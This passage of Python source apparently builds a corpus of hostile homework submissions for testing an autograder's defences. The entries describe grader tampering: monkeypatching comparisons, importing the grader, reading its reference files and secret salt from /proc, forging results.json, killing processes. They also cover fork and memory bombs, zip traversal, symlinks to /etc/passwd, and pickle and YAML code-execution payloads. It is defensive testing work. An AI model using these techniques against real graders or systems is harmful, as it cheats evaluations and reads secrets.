    """Symbolic links in a folder submission: to the reference answers and to the rubric."""
    (folder / "hw1_written.yaml").symlink_to("../../hw1/reference/hw1_written.yaml")
    (folder / "rubric_link").symlink_to("../../../rubrics/hw1.yaml")
    (folder / "passwd_link").symlink_to("/etc/passwd")
    (folder / "reference_link").symlink_to("../../../reference_solutions/hw1/hw1_code.py")
    (folder / "nested").symlink_to("../../hw1/reference", target_is_directory=True)


def truncated_notebook(folder: Path) -> None:
    data = (REFERENCE / "hw1_code.ipynb").read_bytes()
    (folder / "hw1_code.ipynb").write_bytes(data[: len(data) // 2])


def duplicate_notebooks(folder: Path) -> None:
    shutil.copyfile(REFERENCE / "hw1_code.ipynb", folder / "hw1_code.ipynb")
    (folder / "resubmitted").mkdir()
    shutil.copyfile(REFERENCE / "hw1_code.ipynb", folder / "resubmitted" / "hw1_code.ipynb")


# ------------------------------------------------------------------ files written by the test
def inflated_notebook(megabytes: int) -> bytes:
    """The reference notebook with `megabytes` MB of embedded output (too big to commit)."""
    notebook = _reference_notebook()
    cell = next(c for c in notebook["cells"] if c["cell_type"] == "code")
    line = "training loss 0.693147 accuracy 0.5000 " * 25 + "\n"
    count = megabytes * MB // len(line) + 1
    cell["outputs"] = [{"name": "stdout", "output_type": "stream", "text": [line] * count}]
    return json.dumps(notebook).encode()


GENERATORS: dict[str, Callable[[], bytes]] = {
    "huge_notebook": lambda: inflated_notebook(50),
    "large_notebook_under_limit": lambda: inflated_notebook(15),
}


def generate(name: str, folder: Path) -> None:
    """Write the files of `name` that are made at test time (see `generated_in_test`)."""
    (folder / "hw1_code.ipynb").write_bytes(GENERATORS[name]())


# ------------------------------------------------------------------ the corpus
def _except(parts: dict[str, float], **changes: float) -> dict[str, float]:
    return {**parts, **changes}


Spec = tuple[str, list[Writer], dict[str, float], list[str]]
SENTINEL_INJECTION = "sentinel:/tmp/hostile-injection"

CORPUS: dict[str, Spec] = {
    # ---------------- tampering with numpy, builtins, the harness and the grader
    "numpy_monkeypatch": (
        "Patches np.allclose/isclose/array_equal/testing and ndarray.__eq__ (also through "
        "gc.get_referents) so comparisons always succeed; mult_count and memory_count are wrong. "
        "The grader compares in its own process: those two items score 0.",
        [nb(NUMPY_MONKEYPATCH), *HONEST_WRITTEN_AND_WEIGHTS], _except(FULL, p3=12), []),
    "builtins_monkeypatch": (
        "Replaces builtins all/abs/round/sum/sorted/print/open/__import__; the count functions are "
        "wrong. Nothing of the child reaches the grader's comparisons: those items score 0.",
        [nb(BUILTINS_MONKEYPATCH), *HONEST_WRITTEN_AND_WEIGHTS], _except(FULL, p3=12), []),
    "harness_builtins_sabotage": (
        "Replaces builtins the harness itself uses (isinstance, len, max, min, callable, any): the "
        "harness puts every builtin back after each cell and call, so it reports the results as they are.",
        [nb(HARNESS_BUILTINS_SABOTAGE), *HONEST_WRITTEN_AND_WEIGHTS], FULL, []),
    "namespace_builtins_tamper": (
        "Rebinds __builtins__, open, exec, eval, compile, print, isinstance, __name__ in the notebook's "
        "namespace to trip up the harness; the harness keeps its own references: full marks.",
        [nb(NAMESPACE_TAMPER), *HONEST_WRITTEN_AND_WEIGHTS], FULL, []),
    "grader_import_patch": (
        "Puts guessed install paths (/work/main, /autograder/source, site-packages) on sys.path and "
        "imports grader and reference_solutions to patch mismatch() and take the reference counts.",
        [nb(GRADER_IMPORT_PATCH), *HONEST_WRITTEN_AND_WEIGHTS], _except(FULL, p3=12),
         ["text:hostile-leaked"]),
    "read_grader_files": (
        "Opens the rubric, the reference solution, the salt and the grader's files at guessed paths "
        "(checkout, /autograder/source, site-packages) and shows them in an error message.",
        [nb(READ_GRADER_FILES), *HONEST_WRITTEN_AND_WEIGHTS], _except(FULL, p3=12),
         ["text:hostile-leaked", "text:in percent format", "text:The student contract"]),
    "filesystem_solution_search": (
        "Walks the disk for any working solution (sample submissions, other notebooks) and adopts its "
        "count functions, which are otherwise wrong.",
        [nb(FILESYSTEM_SOLUTION_SEARCH), *HONEST_WRITTEN_AND_WEIGHTS], _except(FULL, p3=12),
         ["text:hostile-solution-found"]),
    "env_secrets": (
        "Looks for GRADER_SALT in its environment, in /proc/*/environ and /proc/*/cmdline, and in the "
        "salt file, and shows what it finds in an error message.",
        [nb(ENV_SECRETS), *HONEST_WRITTEN_AND_WEIGHTS], FULL, ["text:hostile-leaked", "env:GRADER_SALT"]),
    "results_json_writes": (
        "Writes a full-marks results.json into its folder, the folder above, guessed output folders "
        "and /autograder/results/results.json; the grader's own results.json is what counts.",
        [nb(RESULTS_JSON_WRITES), *HONEST_WRITTEN_AND_WEIGHTS], FULL,
         ["text:hostile-forged", "in_submission:results.json", "in_submission:results/results.json"]),
    "forge_protocol_fds": (
        "Writes forged 'ok' results, NaN, 100,000 nested brackets, invalid UTF-8 and a 2 MB line "
        "to every fd from 1 to 63, guessing the grader's channel; nothing forged is believed.",
        [nb(FORGE_PROTOCOL), *HONEST_WRITTEN_AND_WEIGHTS], FULL, []),
    # ---------------- ending, killing, hanging
    "exit_sys": (
        "sys.exit(0), SystemExit, KeyboardInterrupt, GeneratorExit, exit() and quit() in cells: each "
        "cell is an error, the rest runs.",
        [nb(*EXIT_SYS), *HONEST_WRITTEN_AND_WEIGHTS], FULL, []),
    "exit_os": (
        "os._exit(0) in a cell between the definitions: that cell is dropped and a fresh process runs "
        "the others.",
        [nb(insert_after_first=(EXIT_OS,)), *HONEST_WRITTEN_AND_WEIGHTS], FULL, []),
    "kill_parent": (
        "Sends SIGKILL/SIGTERM/SIGSTOP to its parent and to pid 1, kills its parent's group, then "
        "kill(-1, SIGKILL): the grader survives and re-runs the other cells.",
        [nb(KILL_PARENT), *HONEST_WRITTEN_AND_WEIGHTS], FULL, []),
    "infinite_loop_cell": (
        "An endless loop in a cell before the definitions: it is stopped at the cell limit, the "
        "definitions after it still run.",
        [nb(insert_after_first=(INFINITE_LOOP_CELL,)), *HONEST_WRITTEN_AND_WEIGHTS], FULL, []),
    "infinite_loop_function": (
        "hvp_forward never returns: each of its calls stops at the call limit; only that item is lost.",
        [nb(INFINITE_LOOP_FUNCTION), *HONEST_WRITTEN_AND_WEIGHTS], _except(FULL, p3=18), []),
    "signals_ignored_loop": (
        "Ignores and blocks SIGALRM/SIGTERM/SIGINT/..., cancels the timer, then loops swallowing "
        "every exception: the grader kills it and re-runs the other cells.",
        [nb(SIGNALS_IGNORED_LOOP), *HONEST_WRITTEN_AND_WEIGHTS], FULL, []),
    "every_call_times_out": (
        "mult_count and memory_count loop forever: 24 calls each run to the call limit, so grading "
        "takes 24 call limits, far beyond the rubric's notebook_timeout.",
        [nb(EVERY_CALL_TIMES_OUT), *HONEST_WRITTEN_AND_WEIGHTS], _except(FULL, p3=12), []),
    # ---------------- resources
    "memory_bomb": (
        "Allocates 64 MB blocks until MemoryError, then asks for 32 GB: stopped by the address-space "
        "limit, the rest runs.",
        [nb(MEMORY_BOMB), *HONEST_WRITTEN_AND_WEIGHTS], FULL, []),
    "memory_bomb_forked": (
        "Four forks each hold 30 % of memory_mb, resident (1.2 x memory_mb together): the memory "
        "limit is per process.",
        [nb(MEMORY_BOMB_FORKED), *HONEST_WRITTEN_AND_WEIGHTS], FULL, ["text:hostile-memory-exceeded"]),
    "fork_bomb": (
        "A bounded fork bomb (at most 600 sleeping processes in 2 s): the process limit stops it and "
        "none of its processes outlives the grading.",
        [nb(FORK_BOMB), *HONEST_WRITTEN_AND_WEIGHTS], FULL, []),
    "daemon_double_fork": (
        "A double-forked daemon in its own session closes its pipes, sleeps 3 s, then writes a file: "
        "it must be killed with the session.",
        [nb(DAEMON_DOUBLE_FORK), *HONEST_WRITTEN_AND_WEIGHTS], FULL, ["sentinel:/tmp/hostile-daemon-sentinel"]),
    "print_flood_100mb": (
        "Prints 50 MB and writes 50 MB straight to fds 1 and 2: output is capped, the grader's memory "
        "stays bounded, everything scores.",
        [nb(PRINT_FLOOD), *HONEST_WRITTEN_AND_WEIGHTS], FULL, []),
    "disk_fill": (
        "Writes 20 files of 8 MB (each under the per-file limit) into its folder: the disk it may "
        "fill is not bounded in total.",
        [nb(DISK_FILL), *HONEST_WRITTEN_AND_WEIGHTS], FULL, ["text:hostile-disk-exceeded"]),
    "tmp_persistence": (
        "Leaves files in /tmp, /var/tmp and /dev/shm for a later submission to read.",
        [nb(TMP_PERSISTENCE), *HONEST_WRITTEN_AND_WEIGHTS], FULL,
         ["sentinel:/tmp/hostile-tmp-persistence", "sentinel:/var/tmp/hostile-tmp-persistence",
          "sentinel:/dev/shm/hostile-tmp-persistence"]),
    "network": (
        f"Connects to 127.0.0.1:{NETWORK_PORT} (the test listens there) and to public addresses, with "
        "the socket module and with raw libc calls through ctypes.",
        [nb(NETWORK), *HONEST_WRITTEN_AND_WEIGHTS], FULL, ["text:hostile-network-reached", f"listen:{NETWORK_PORT}"]),
    # ---------------- lying values and broken text
    "lying_return_values": (
        "Returns an object whose __eq__ is always True (mult_count), an int subclass that lies "
        "(memory_count), an ndarray subclass with lying __eq__/__array__ (hvp_forward) and a 40 MB "
        "array (mlp_forward): those items score 0.",
        [nb(LYING_RETURN_VALUES), *HONEST_WRITTEN_AND_WEIGHTS], _except(FULL, p3=10, p4=12), []),
    "surrogate_in_output": (
        "An error message with a lone surrogate (text that is not valid Unicode): the student must "
        "still get a results.json, with full marks for the functions.",
        [nb(SURROGATE_IN_OUTPUT), *HONEST_WRITTEN_AND_WEIGHTS], FULL, []),
    # ---------------- weights files
    "npz_pickle": (
        "hw1_weights.npz whose W2 is an object array; unpickling it would run `touch "
        "/tmp/hostile-npz-pickle`. Never unpickled: p5 scores 0.",
        [copy("hw1_written.yaml"), copy("hw1_code.ipynb"), npz_with_pickle], _except(FULL, p5=0),
        ["sentinel:/tmp/hostile-npz-pickle"]),
    "npz_not_zip": (
        "hw1_weights.npz is a bare pickle stream that would run a command if loaded: p5 scores 0.",
        [copy("hw1_written.yaml"), copy("hw1_code.ipynb"), npz_not_zip], _except(FULL, p5=0),
        ["sentinel:/tmp/hostile-npz-raw-pickle"]),
    # ---------------- zips, folders, notebooks
    "zip_bomb": (
        "The submission is a zip with a 90 MB member of zeros (about 1000:1): the zip is refused.",
        [zip_submission(_bomb_members)], ALL_ZERO, []),
    "zip_traversal": (
        "A zip with members ../../tmp/hostile-traversal and /tmp/hostile-traversal-absolute: the zip is "
        "refused and nothing is written outside its folder.",
        [zip_submission(_traversal_members)], ALL_ZERO,
        ["sentinel:/tmp/hostile-traversal", "sentinel:/tmp/hostile-traversal-absolute"]),
    "zip_symlinks": (
        "A zip whose hw1_written.yaml is a symbolic link to the reference answers, with links to "
        "/etc/passwd and the rubric: links are not extracted, the written answers are missing.",
        [zip_submission(_symlink_members)], _except(FULL, **WRITTEN_ZERO), ["text:hostile-leaked"]),
    "folder_symlinks": (
        "A folder whose hw1_written.yaml is a symbolic link to the reference answers, with links to "
        "the rubric, the reference code, /etc/passwd and a linked folder: links are not followed.",
        [copy("hw1_code.ipynb"), copy("hw1_weights.npz"), folder_symlinks], _except(FULL, **WRITTEN_ZERO),
        []),
    "duplicate_candidates": (
        "hw1_code.ipynb twice, at depth 0 and in resubmitted/: a clear message, the notebook parts "
        "score 0.",
        [*HONEST_WRITTEN_AND_WEIGHTS, duplicate_notebooks], _except(FULL, **CODE_ZERO), []),
    "truncated_notebook": (
        "hw1_code.ipynb cut in half (invalid JSON): the notebook parts score 0 with a message.",
        [*HONEST_WRITTEN_AND_WEIGHTS, truncated_notebook], _except(FULL, **CODE_ZERO), []),
    "huge_notebook": (
        "hw1_code.ipynb with 50 MB of embedded outputs (written by the test), more than twice the 20 MB "
        "of code a notebook may hold: outputs are skipped while the file is read, so everything scores.",
        [*HONEST_WRITTEN_AND_WEIGHTS], FULL, []),
    "large_notebook_under_limit": (
        "hw1_code.ipynb with 15 MB of embedded outputs (written by the test): outputs are ignored, "
        "everything scores.",
        [*HONEST_WRITTEN_AND_WEIGHTS], FULL, []),
    # ---------------- written answers
    "written_injection": (
        "Code injection through the written answers: __import__, exec, sympify and dunder chains in "
        "number and expression fields, and exponent towers. Those fields score 0, nothing runs.",
        [written_edited(WRITTEN_INJECTION_EDITS), copy("hw1_code.ipynb"), copy("hw1_weights.npz")],
        _except(FULL, q1_3_hessian=0, q1_3_cost=2.5, q1_3_1_z=0, q1_3_1_cost=3), [SENTINEL_INJECTION]),
    "yaml_python_tags": (
        "hw1_written.yaml with !!python/object/apply, !!python/name, !!python/object/new and "
        "!!python/module tags: refused, nothing runs.",
        [written_appended(YAML_PYTHON_TAGS), copy("hw1_code.ipynb"), copy("hw1_weights.npz")],
        _except(FULL, **WRITTEN_ZERO), ["sentinel:/tmp/hostile-yaml-tag"]),
    "yaml_alias_bomb": (
        "A 'billion laughs' alias bomb in hw1_written.yaml: refused before anything is built.",
        [text("hw1_written.yaml", YAML_ALIAS_BOMB), copy("hw1_code.ipynb"), copy("hw1_weights.npz")],
        _except(FULL, **WRITTEN_ZERO), []),
    "yaml_value_errors": (
        "hw1_written.yaml with an invalid date (2024-13-45) and a 5000-digit integer, which YAML's "
        "constructors reject with ValueError: the written answers score 0, everything else full.",
        [written_appended(YAML_VALUE_ERRORS), copy("hw1_code.ipynb"), copy("hw1_weights.npz")],
        _except(FULL, **WRITTEN_ZERO), []),
}


def expected_document(name: str) -> dict[str, Any]:
    description, _, parts, must_not = CORPUS[name]
    document: dict[str, Any] = {"description": description, "parts": parts, "must_not": must_not,
                                "tolerance": 0.01}
    if name in GENERATORS:
        document["generated_in_test"] = {"hw1_code.ipynb": "written by make_hostile.generate()"}
    return document


def write_all(target: Path = HOSTILE) -> list[str]:
    """(Re)write every corpus folder under target; return their names."""
    target.mkdir(parents=True, exist_ok=True)
    for name, (_, writers, _, _) in CORPUS.items():
        folder = target / name
        if folder.exists():
            shutil.rmtree(folder)
        folder.mkdir()
        for write in writers:
            write(folder)
        (folder / "expected.json").write_text(json.dumps(expected_document(name), indent=2) + "\n",
                                              encoding="utf-8")
    return list(CORPUS)


if __name__ == "__main__":
    written = write_all(Path(sys.argv[1]) if len(sys.argv) > 1 else HOSTILE)
    print(f"wrote {len(written)} hostile submissions under {HOSTILE}")
